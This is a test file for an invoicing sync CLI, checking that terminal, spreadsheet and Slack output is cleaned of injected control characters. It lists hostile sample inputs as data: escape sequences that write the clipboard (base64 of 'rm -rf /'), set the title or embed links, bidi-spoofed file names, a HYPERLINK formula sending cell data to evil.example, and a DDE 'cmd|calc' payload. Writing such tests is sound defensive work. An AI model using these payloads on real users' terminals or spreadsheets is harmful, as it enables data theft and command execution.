/**
 * A customer may call himself anything, and a bookkeeper reads it on a terminal and in a spreadsheet. Nothing that came out of a record is obeyed by
 * either.
 */
import { clean, safeJson } from '../../cli/text.ts';
import { auditCsv } from '../../cli/verbs/numbers/say.ts';
import { chatChannel } from '../../lib/http/chat.ts';
import type { MemoryWorld } from '../../local/memory/world.ts';
import { run } from '../cli/cli.ts';
import {
  REALMS,
  counterpartOf,
  editHalo,
  imported,
  inOwnScreen,
  postInvoice,
  withSettings,
} from '../support/scenario.ts';

const ESCAPE = '\u001b';
/** What a terminal would do: colour, clear, write the clipboard, change the title, follow a link, hide, turn the direction, overwrite the line. */
const HOSTILE = [
  `Red ${ESCAPE}[31mAlert${ESCAPE}[0m`,
  `Clear ${ESCAPE}[2J${ESCAPE}[H`,
  `Clipboard ${ESCAPE}]52;c;cm0gLXJmIC8=\u0007`,
  `Title ${ESCAPE}]0;owned\u0007`,
  `Link ${ESCAPE}]8;;https://evil.example${ESCAPE}\\here`,
  'C1 \u009b31m and \u0090q',
  'Turned \u202etxt.exe\u2066',
  'Unseen \u200b\u2060\ufeff',
  'Line\r\nINVOICE PAID\rover\u2028and over',
  'Bell \u0007 and back \b\b\b',
];
const FORMULAS = [
  '=HYPERLINK("https://evil.example?"&A1,"pay")',
  '+1+cmd|calc',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
];

/** Anything but text and the end of a line. */
const OBEYED = /[^\P{Cc}\n]|[\u061C\u200B-\u200F\u2028-\u202E\u2060-\u2069\uFEFF]/u;

const VERBS = [
  'errors --all',
  'errors --all --json',
  'log',
  'log --json',
  'status',
  'status --json',
  'review --connection demo',
  'review --connection demo --json',
  'readiness --connection demo',
  'map list --connection demo',
  'numbers audit --connection demo',
  'numbers audit --connection demo --csv',
  'dlq',
];

let world: MemoryWorld;
let invoice: number;

/** Clients that cannot be made because creating is off, an invoice that two have edited, all of them named as above. */
beforeAll(async () => {
  world = await imported({
    connections: { demo: withSettings({ kinds: { client: { autoCreate: false } } }) },
  });
  for (const name of [...HOSTILE, ...FORMULAS])
    editHalo(world, 'Client', { name, qbo_company_id: REALMS.demo, currencyisocode: 'USD' });
  inOwnScreen(world, 'Invoice', {
    CustomerRef: { value: '60' },
    DocNumber: `=1${ESCAPE}[7m`,
    Line: [
      {
        DetailType: 'SalesItemLineDetail',
        Amount: 5,
        SalesItemLineDetail: { ItemRef: { value: '200' }, Qty: 1, UnitPrice: 5 },
      },
    ],
  });
  invoice = postInvoice(world, { notes_1: HOSTILE.join(' ') });
  await world.settle();
  editHalo(world, 'Client', { id: 1, name: HOSTILE[2] });
  await world.settle();
});

test.each(VERBS)('%s', async (line) => {
  const { out, notes } = await run(world, line);

  expect(out).not.toMatch(OBEYED);
  expect(notes).not.toMatch(OBEYED);
});

test('the names are there, without what a terminal would do', async () => {
  const { out } = await run(world, 'errors --all');

  expect(out).toContain('Alert');
  expect(out).toContain('INVOICE PAID');
});

test.each(['history client', 'history invoice'])('%s, of a record so named', async (line) => {
  const id = line.endsWith('client') ? '1' : String(invoice);

  for (const more of ['', ' --json'])
    expect((await run(world, `${line} ${id} --connection demo${more}`)).out).not.toMatch(OBEYED);
});

test('what a person types is shown no differently', async () => {
  const { notes } = await run(world, `history client "${HOSTILE[0]}" --connection ${ESCAPE}[31mx`);

  expect(notes).not.toMatch(OBEYED);
  expect(notes).toContain('There is no connection');
});

test.each(HOSTILE)('%j has nothing left to obey, as text and as JSON', (text) => {
  expect(clean(text)).not.toMatch(OBEYED);
  expect(safeJson({ [text]: text })).not.toMatch(OBEYED);
  expect(JSON.parse(safeJson({ [text]: text }))).toEqual({ [text]: text });
});

test.each(FORMULAS)('%j is a text in a spreadsheet, not a formula', (text) => {
  const [, row = ''] = auditCsv([
    {
      connection: 'demo',
      series: [{ series: text, first: text, last: text, documents: 1, missing: 0, unexplained: 0 }],
      findings: [],
      unexplained: 0,
    },
  ] as unknown as Parameters<typeof auditCsv>[0]);

  expect(row).not.toMatch(/(^|,)"?[=+\-@]/);
});

test('what goes to a vendor is what was written, whatever it looks like: cleaning is for showing', () => {
  const memo = (counterpartOf(world, invoice)['CustomerMemo'] as { readonly value: string }).value;

  expect(memo).toContain('INVOICE PAID');
});

test('what a chat would make a link or a call to everybody is text', async () => {
  const sent: string[] = [];
  const slack = chatChannel('slack', 'https://hooks.slack.com/services/T/B/x', ({ body = '' }) => {
    sent.push(body);
    return Promise.resolve({ status: 200, headers: {}, text: 'ok' });
  });

  await slack.tell({ title: '<!channel> demo', lines: ['<https://evil.example|Pay here> & <@U1>'] });

  expect(sent.join()).not.toMatch(/[<>]/);
  expect(sent.join()).toContain('&lt;https://evil.example|Pay here&gt; &amp; &lt;@U1&gt;');
});
